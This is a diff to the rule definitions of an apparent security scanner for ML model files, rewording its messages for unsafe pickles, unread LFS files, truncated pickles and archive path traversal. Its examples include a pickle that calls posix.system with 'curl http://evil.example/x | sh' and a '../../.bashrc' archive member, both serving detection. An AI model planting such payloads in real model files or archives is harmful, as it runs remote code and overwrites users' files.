@@ -35,7 +35,8 @@ RULES: list[Rule] = [
         bad=(
             "model.pt: a zip whose archive/data.pkl holds\n"
             "  GLOBAL 'posix system'  (S'curl http://evil.example/x | sh' tR)\n"
-            "=> ML401 model.pt: dangerous pickle import: posix.system [archive/data.pkl]"
+            "=> ML401 model.pt: pickle imports callables that can run code: "
+            "posix.system [archive/data.pkl]"
         ),
         good=(
             "model.pt: a zip whose archive/data.pkl imports only\n"
@@ -111,7 +112,8 @@ RULES: list[Rule] = [
         ),
         bad=(
             "weights/model.bin (420 MB), no .gitattributes rule\n"
-            "=> ML403 weights/model.bin: 420.0 MB artifact is not tracked by Git LFS"
+            "=> ML403 weights/model.bin: 420.0 MiB file is not tracked by Git LFS "
+            "(limit 10.0 MiB)"
         ),
         good=(
             ".gitattributes:\n"
@@ -144,7 +146,8 @@ RULES: list[Rule] = [
         ),
         bad=(
             "model.pkl truncated in the middle of an opcode\n"
-            "=> ML404 model.pkl: cannot read pickle: truncated at byte 4096"
+            "=> ML404 model.pkl: unreadable pickle file: pickle stream: truncated: the stream "
+            "ends at byte 4096 before its STOP opcode"
         ),
         good=(
             "model.pkl as a Git LFS pointer:\n"
@@ -179,7 +182,8 @@ RULES: list[Rule] = [
         ),
         bad=(
             "checkpoint.zip holding '../../.bashrc'\n"
-            "=> ML405 checkpoint.zip: member '../../.bashrc' escapes the archive"
+            "=> ML405 checkpoint.zip: unsafe archive: member '../../.bashrc' climbs out "
+            "of the archive with '..'"
         ),
         good="checkpoint.zip holding 'checkpoint/data.pkl' and 'checkpoint/data/0'",
         fix="Do not extract or load this archive; re-create it from trusted files.",
